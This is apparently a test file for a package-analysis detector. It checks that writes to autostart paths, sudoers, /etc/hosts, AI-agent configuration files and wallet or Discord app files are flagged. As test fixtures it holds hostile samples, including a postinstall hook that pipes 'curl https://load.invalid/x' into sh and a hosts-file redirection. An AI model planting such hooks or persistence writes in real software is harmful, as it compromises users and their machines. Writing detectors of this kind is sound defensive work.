import assert from 'node:assert/strict';
import {
  meaningOfPlace,
  meaningOfText,
} from '../../../../../server/src/artifacts/analysis/code/platform/written-places.js';
import { behavioursOf } from './sent.js';

const HOME = '\uE000home\uE001';

describe('places that other programs read', () => {
  for (const [path, kind] of [
    [`${HOME}/.local/bin/git`, 'autostart'],
    ['/usr/local/bin/node', 'autostart'],
    [`${HOME}/.vimrc`, 'autostart'],
    [`${HOME}/.tmux.conf`, 'autostart'],
    [`${HOME}/.config/fish/conf.d/x.fish`, 'autostart'],
    [`${HOME}/Documents/PowerShell/Microsoft.PowerShell_profile.ps1`, 'autostart'],
    [`${HOME}/.gradle/init.gradle`, 'autostart'],
    [`${HOME}/.cargo/config.toml`, 'autostart'],
    [`${HOME}/.local/lib/python3.12/site-packages/x.pth`, 'autostart'],
    ['/etc/ld.so.preload', 'autostart'],
    ['\uE000project\uE001/.pnpmfile.cjs', 'autostart'],
    ['/etc/hosts', 'protection-weakened'],
    ['/etc/sudoers.d/x', 'protection-weakened'],
    [`${HOME}/.config/google-chrome/Default/Preferences`, 'protection-weakened'],
    [`${HOME}/.vscode/extensions/a.b-1.0.0`, 'agent-configuration'],
    ['.mcp.json', 'agent-configuration'],
    ['opencode.json', 'agent-configuration'],
    ['.clinerules', 'agent-configuration'],
    ['.kiro/steering/x.md', 'agent-configuration'],
    ['.junie/guidelines.md', 'agent-configuration'],
    [`${HOME}/.config/zed/settings.json`, 'agent-configuration'],
    [
      `${HOME}/AppData/Local/Discord/modules/discord_desktop_core-1/discord_desktop_core/index.js`,
      'application-changed',
    ],
    [`${HOME}/AppData/Local/exodus/app.asar`, 'application-changed'],
  ] as const) {
    it(`are known by their path: ${path}`, () => {
      assert.equal(meaningOfPlace(path), kind);
    });
  }

  it('are not those of the same name elsewhere', () => {
    for (const path of [
      'bin/git',
      './node_modules/.bin/node',
      `${HOME}/.local/bin/acme`,
      `${HOME}/.cargo/registry/a.crate`,
      'templates/.vimrc',
      'templates/profile.ps1',
      'etc/hosts',
      './fixtures/etc/hosts',
      `${HOME}/.config/acme/Preferences`,
      `${HOME}/.vscode/argv.json`,
      'build/app.asar',
      'src/mcp.json.ts',
    ])
      assert.equal(meaningOfPlace(path), undefined, path);
  });

  it('are known by what is written to them', () => {
    for (const [path, text, kind] of [
      ['.yarnrc.yml', 'yarnPath: /tmp/y.cjs\n', 'autostart'],
      ['.yarnrc.yml', 'nodeLinker: node-modules\n', undefined],
      [`${HOME}/.config/pip/pip.conf`, '[global]\nindex-url=https://pypi.invalid/simple\n', 'downloads-redirected'],
      [`${HOME}/.config/pip/pip.conf`, '[global]\ntimeout=60\n', undefined],
      ['.vscode/settings.json', '{"chat.tools.autoApprove":true}', 'agent-configuration'],
      ['.vscode/settings.json', '{"git.path":"./x"}', 'agent-configuration'],
      ['.vscode/settings.json', '{"editor.tabSize":2,"typescript.tsdk":"node_modules/typescript/lib"}', undefined],
      [`${HOME}/.gitconfig`, '[core]\n\thooksPath = /tmp/h\n', 'autostart'],
      [`${HOME}/.gitconfig`, '[user]\n\tname = a\n', undefined],
    ] as const)
      assert.equal(meaningOfText(path, text), kind, `${path}: ${text}`);
  });

  it('are written by code, at the moment at which it runs', () => {
    assert.deepEqual(behavioursOf(`fs.writeFileSync(os.homedir() + '/.local/bin/git', 'x');`), ['autostart import']);
    assert.deepEqual(behavioursOf(`fs.appendFileSync('/etc/hosts', '203.0.113.9 registry.example\\n');`), [
      'protection-weakened import',
    ]);
    assert.deepEqual(
      behavioursOf(`fs.cpSync(__dirname + '/ext', os.homedir() + '/.cursor/extensions/a.b-1', { recursive: true });`),
      ['agent-configuration import'],
    );
    assert.deepEqual(
      behavioursOf(`fs.writeFileSync('.vscode/settings.json', JSON.stringify({ 'editor.tabSize': 2 }));`),
      [],
    );
  });

  it('are a folder of programs that later steps of a job look into', () => {
    const told = (folder: string) => behavioursOf(`fs.appendFileSync(process.env.GITHUB_PATH, '${folder}\\n');`);
    assert.deepEqual(told('/tmp/x'), ['autostart import']);
    assert.deepEqual(told('/opt/acme/bin'), []);
  });

  it('are a manifest in which something is set before it is written back', () => {
    const set = (part: string): readonly string[] => [
      ...new Set(
        behavioursOf(
          `const f = process.env.INIT_CWD + '/package.json'; const p = JSON.parse(fs.readFileSync(f, 'utf8')); p.${part}; fs.writeFileSync(f, JSON.stringify(p));`,
        ),
      ),
    ];
    assert.deepEqual(set(`scripts.postinstall = 'curl https://load.invalid/x | sh'`), ['download-and-run import']);
    assert.deepEqual(set(`dependencies['left-pad'] = 'https://load.invalid/a.tgz'`), ['downloads-redirected import']);
    assert.deepEqual(set(`scripts.prepare = 'husky'`), []);
    assert.deepEqual(set(`scripts.build = 'acme build'`), []);
    assert.deepEqual(set(`dependencies['left-pad'] = '^1.3.0'`), []);
    assert.deepEqual(set(`dependencies['left-pad'] = 'https://github.com/a/left-pad/archive/a.tar.gz'`), []);
  });

  it('are code where a script that is set is code', () => {
    const code = `const p = JSON.parse(fs.readFileSync('package.json', 'utf8')); p.scripts.postinstall = 'node -e "require(\\'child_process\\').execSync(\\'curl https://load.invalid/x | sh\\')"'; fs.writeFileSync('package.json', JSON.stringify(p));`;
    assert.ok(behavioursOf(code).includes('download-and-run import'), behavioursOf(code).join());
  });
});
